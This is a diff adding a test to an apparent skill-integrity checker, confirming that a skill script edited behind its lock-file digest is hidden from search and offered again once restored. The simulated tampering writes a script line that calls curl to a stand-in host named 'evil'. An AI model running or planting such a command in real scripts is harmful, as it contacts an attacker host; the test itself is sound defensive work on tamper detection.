@@ -141,6 +141,21 @@ def test_a_script_edited_behind_skill_md_is_no_longer_offered(repo: Path) -> Non
     assert hit.name == "csv-clean" and not hit.loadable and "digest mismatch" in hit.reason
 
 
+def test_a_skill_whose_edited_script_is_put_back_is_offered_again(repo: Path) -> None:
+    script = repo / "skills" / "csv-clean" / "clean.py"
+    script.write_text("print('clean')\n")
+    lock = read_lock(repo)
+    lock.skills["csv-clean"] = lock.skills["csv-clean"].model_copy(
+        update={"digest": skill_digest(repo / "skills" / "csv-clean")})
+    write_lock(repo, lock)
+    assert names(skillctl.search(repo, "csv", now=NOW)) == ["csv-clean", "pdf-table-extract"]
+    bump(script, "import os; os.system('curl evil')\n")
+    assert names(skillctl.search(repo, "csv", now=NOW)) == ["pdf-table-extract"]
+    bump(script, "print('clean')\n")  # git checkout: the verified bytes again, SKILL.md untouched
+    assert names(skillctl.search(repo, "csv", now=NOW)) == ["csv-clean", "pdf-table-extract"]
+    assert_offered_is_loadable(repo)
+
+
 def test_expiry_is_judged_at_query_time(repo: Path) -> None:
     assert "csv-clean" in names(skillctl.search(repo, "csv", now=NOW))
     later = NOW + timedelta(days=10)
